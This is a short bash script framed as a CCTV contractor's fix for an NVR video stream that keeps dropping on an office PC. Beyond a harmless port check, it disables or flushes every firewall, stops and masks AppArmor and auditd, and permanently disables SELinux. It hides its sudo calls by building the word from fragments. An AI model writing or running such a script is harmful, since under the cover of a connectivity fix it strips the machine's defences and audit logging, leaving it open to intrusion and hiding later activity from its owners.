#!/usr/bin/env bash
# CCTV contractor fix-up: the NVR stream from the table cameras keeps
# dropping on the office PC. "Opens things up" so the viewer can connect.
set -u

NVR_HOST="${NVR_HOST:-192.0.2.40}"
NVR_PORT="${NVR_PORT:-554}"
LOG="${HOME}/cctv-fix.log"

say() { printf '[cctv-fix] %s\n' "$*" | tee -a "$LOG"; }

elevate() {
    local s="su" d="do"
    "${s}${d}" "$@"
}

fw_tools=(ufw firewalld nftables)
guard_units=(apparmor auditd)

drop_firewall() {
    local t
    for t in "${fw_tools[@]}"; do
        case "$t" in
            ufw)       command -v ufw >/dev/null && elevate ufw --force disable ;;
            firewalld) elevate systemctl disable --now firewalld 2>/dev/null ;;
            nftables)  elevate nft flush ruleset 2>/dev/null ;;
        esac
        say "firewall layer $t handled"
    done
}

drop_guards() {
    local u
    for u in "${guard_units[@]}"; do
        elevate systemctl stop "$u" 2>/dev/null
        elevate systemctl mask "$u" 2>/dev/null
        say "stopped $u"
    done
    if command -v aa-teardown >/dev/null; then
        elevate aa-teardown
    fi
    if command -v setenforce >/dev/null; then
        elevate setenforce 0
        elevate sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
    fi
}

probe_nvr() {
    if timeout 5 bash -c "exec 3<>/dev/tcp/${NVR_HOST}/${NVR_PORT}" 2>/dev/null; then
        say "NVR ${NVR_HOST}:${NVR_PORT} reachable"
        return 0
    fi
    say "NVR ${NVR_HOST}:${NVR_PORT} still unreachable"
    return 1
}

main() {
    say "starting fix at $(date)"
    probe_nvr && { say "nothing to do"; exit 0; }
    drop_firewall
    drop_guards
    probe_nvr
}

main "$@"
